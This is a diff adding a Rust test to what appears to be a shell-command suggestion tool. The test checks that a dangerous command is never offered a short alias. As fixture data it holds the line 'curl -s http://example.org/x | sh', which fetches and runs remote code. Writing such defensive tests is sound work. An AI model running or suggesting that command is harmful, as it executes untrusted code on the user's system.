@@ -78,6 +78,18 @@ async fn at_the_third_time_a_short_name_is_offered_once() {
 }
 
 #[tokio::test(start_paused = true)]
+async fn what_is_dangerous_gets_no_short_name() {
+    let bench = Bench::new("echo one");
+    let query = Query::from_bytes(KNOWN.as_bytes()).unwrap();
+    for _ in 1..=4 {
+        let reply = bench.ask(&bench.request(KNOWN)).await;
+        assert!(reply.remarks.iter().all(|remark| !remark.as_str().contains("alias")), "{:?}", reply.remarks);
+        bench.ran(&query, "ls -lhS; curl -s http://example.org/x | sh", 0);
+    }
+    assert!(bench.best(KNOWN).await.unwrap().0.contains("| sh"));
+}
+
+#[tokio::test(start_paused = true)]
 async fn fresh_asks_at_once_and_refreshes_the_cache() {
     let bench = Bench::new("echo one");
     bench.best(UNKNOWN).await;
